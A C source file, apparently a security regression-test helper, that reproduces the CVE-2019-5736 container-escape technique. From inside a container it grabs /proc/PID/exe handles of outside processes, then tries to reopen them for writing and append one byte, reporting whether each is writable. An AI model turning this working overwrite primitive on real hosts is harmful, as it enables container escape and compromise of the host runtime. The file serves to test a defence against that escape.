/*
 * exe_thief: the CVE-2019-5736 attacker, run inside a container that holds CAP_SYS_PTRACE
 * and CAP_DAC_OVERRIDE (tests/test_sealed.py). Until the file TRIGGER exists it scans /proc
 * and keeps an O_PATH fd on /proc/PID/exe of every other process whose executable is not
 * one of the container's own files (busybox, itself). Then, for up to 5 s, it reopens each
 * kept file for writing through /proc/self/fd/N (ETXTBSY: still executed, try again),
 * appends one byte, and prints one line per file: "caught PID LINK" when kept, then
 * "WRITABLE PID" or "refused PID ERRNO-TEXT". Only ever run it against a copy.
 *
 *   exe_thief TRIGGER
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 512

int main(int argc, char **argv)
{
	static int fds[MAX], pids[MAX], done[MAX];
	static char seen[1 << 16];
	struct stat own, bb, st;
	int n = 0, self = getpid();

	if (argc != 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &bb))
		return 2;
	while (access(argv[1], F_OK) != 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 2;
		while ((e = readdir(d)) && n < MAX) {
			int p = atoi(e->d_name), fd;
			char path[64], link[256];
			ssize_t len;

			if (p <= 0 || p == self || p >= (1 << 16) || seen[p])
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			seen[p] = 1;
			if (fstat(fd, &st) || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
			    (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
				close(fd);
				continue;
			}
			len = readlink(path, link, sizeof link - 1);
			link[len < 0 ? 0 : len] = 0;
			printf("caught %d %s\n", p, link);
			fds[n] = fd;
			pids[n++] = p;
		}
		closedir(d);
	}
	for (int round = 0, left = n; left && round < 500; round++) {
		for (int i = 0; i < n; i++) {
			char path[64];
			int fd;

			if (done[i])
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				struct stat fst;

				/* one byte appended (a sealed memfd opens, but refuses it) */
				if (!fstat(fd, &fst) && pwrite(fd, "", 1, fst.st_size) == 1)
					printf("WRITABLE %d\n", pids[i]);
				else
					printf("refused %d %s (opened)\n", pids[i], strerror(errno));
				close(fd);
			} else if (errno == ETXTBSY && round < 499) {
				continue;
			} else {
				printf("refused %d %s\n", pids[i], strerror(errno));
			}
			done[i] = 1;
			left--;
		}
		usleep(10000);
	}
	printf("done\n");
	return 0;
}
